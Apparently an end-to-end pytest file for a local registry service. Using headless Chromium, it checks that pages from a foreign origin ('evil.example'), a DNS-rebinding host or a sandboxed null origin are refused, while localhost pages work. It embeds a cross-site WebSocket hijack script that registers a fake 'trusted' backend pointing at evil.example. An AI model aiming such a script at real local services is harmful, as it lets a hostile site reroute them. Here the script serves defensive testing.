"""A real browser's pages at the door: those of other sites fail, those of this machine work.

Needs Chromium: `scripts/test --browser` installs it and runs this.
"""

from __future__ import annotations

import os
import shutil
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from functools import partial
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, urlsplit

import pytest
import trio

from tests.e2e.harness import ServerProcess, running_registry

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
MUST_RUN = "REGISTRY_TEST_BROWSER" in os.environ
LIMIT_SECONDS = 60

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        CHROMIUM is None and not MUST_RUN,
        reason="Chromium is not installed: scripts/test --browser installs it",
    ),
]

SCRIPT = """
const say = (text) => fetch("REPORT?said=" + encodeURIComponent(text), {mode: "no-cors"});
try {
  const ws = new WebSocket("URL");
  ws.onopen = () => ws.send('{"jsonrpc":"2.0","id":1,"method":"registry.register",'
    + '"params":{"name":"trusted","host":"evil.example","port":666}}');
  ws.onmessage = (event) => say(event.data);
  ws.onerror = () => say("failed");
} catch (error) { say("failed: " + error); }
"""


@dataclass
class Site:
    """A web server on every name of this machine, whose page tries to use the registry."""

    port: int = 0
    page: str = ""
    said: list[str] = field(default_factory=list)
    has_said: trio.Event = field(default_factory=trio.Event)

    async def answer(self, stream: trio.SocketStream) -> None:
        head = b""
        async with stream:
            while b"\r\n\r\n" not in head:
                data = await stream.receive_some()
                if not data:
                    return
                head += data
            target = urlsplit(head.split()[1].decode())
            if target.path == "/said":
                self.said += parse_qs(target.query)["said"]
                self.has_said.set()
            body = self.page.encode() if target.path == "/page" else b""
            await stream.send_all(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n" % len(body) + body
            )


@asynccontextmanager
async def serving() -> AsyncIterator[Site]:
    site = Site()
    async with trio.open_nursery() as nursery:
        serve = partial(trio.serve_tcp, site.answer, 0, host="127.0.0.1")
        listeners = await nursery.start(serve)
        site.port = listeners[0].socket.getsockname()[1]
        yield site
        nursery.cancel_scope.cancel()


async def visit(folder: Path, url: str, site: Site) -> str:
    """Open a page in a browser of its own, and give what its script says."""
    assert CHROMIUM is not None, "Chromium must be installed"
    command = [
        CHROMIUM,
        *("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
        *("--no-first-run", "--disable-background-networking", "--disable-component-update"),
        "--host-resolver-rules=MAP *.example 127.0.0.1",
        f"--user-data-dir={folder / 'profile'}",
        "--remote-debugging-port=0",
        url,
    ]
    async with trio.open_nursery() as nursery:
        with (folder / "chromium.log").open("wb") as log:
            await nursery.start(
                partial(trio.run_process, command, check=False, stdout=log, stderr=log)
            )
        await site.has_said.wait()
        nursery.cancel_scope.cancel()
    return site.said[0]


async def what_a_page_gets(
    folder: Path, server: ServerProcess, origin: str, *, host: str = "127.0.0.1", frame: str = ""
) -> str:
    """What the script of a page of some origin gets from the registry."""
    async with serving() as site:
        report = f"{origin}:{site.port}/said"
        script = SCRIPT.replace("REPORT", report).replace("URL", f"ws://{host}:{server.port}/")
        site.page = f"<!doctype html><script>{script}</script>"
        if frame:
            inner = site.page.replace("&", "&amp;").replace('"', "&quot;")
            site.page = f'<!doctype html><iframe {frame} srcdoc="{inner}"></iframe>'
        return await visit(folder, f"{origin}:{site.port}/page", site)


async def test_a_page_of_another_site_fails(tmp_path: Path) -> None:
    with trio.fail_after(LIMIT_SECONDS):
        async with running_registry(tmp_path, "--no-auto-register") as server:
            assert (await what_a_page_gets(tmp_path, server, "http://evil.example")) == "failed"
            assert 'refused a page of the origin "http://evil.example:' in server.log


async def test_a_page_that_points_its_name_at_this_machine_fails(tmp_path: Path) -> None:
    with trio.fail_after(LIMIT_SECONDS):
        async with running_registry(tmp_path, "--no-auto-register") as server:
            said = await what_a_page_gets(
                tmp_path, server, "http://evil.example", host="evil.example"
            )
            assert said == "failed"
            assert 'refused a request for the host "evil.example:' in server.log


async def test_a_page_without_an_origin_fails(tmp_path: Path) -> None:
    with trio.fail_after(LIMIT_SECONDS):
        async with running_registry(tmp_path, "--no-auto-register") as server:
            sandbox = 'sandbox="allow-scripts"'
            said = await what_a_page_gets(tmp_path, server, "http://localhost", frame=sandbox)
            assert said == "failed"
            assert 'refused a page of the origin "null"' in server.log


@pytest.mark.parametrize("origin", ["http://localhost", "http://127.0.0.1"])
async def test_a_page_of_this_machine_works(tmp_path: Path, origin: str) -> None:
    with trio.fail_after(LIMIT_SECONDS):
        async with running_registry(tmp_path, "--no-auto-register") as server:
            assert "backend_registered" in await what_a_page_gets(tmp_path, server, origin)


async def test_a_page_that_is_allowed_works(tmp_path: Path) -> None:
    with trio.fail_after(LIMIT_SECONDS):
        async with serving() as site:
            origin = f"http://tools.example:{site.port}"
            option = f"--allow-origin={origin}"
            async with running_registry(tmp_path, "--no-auto-register", option) as server:
                script = SCRIPT.replace("REPORT", f"{origin}/said")
                script = script.replace("URL", f"ws://127.0.0.1:{server.port}/")
                site.page = f"<!doctype html><script>{script}</script>"
                assert "backend_registered" in await visit(tmp_path, f"{origin}/page", site)
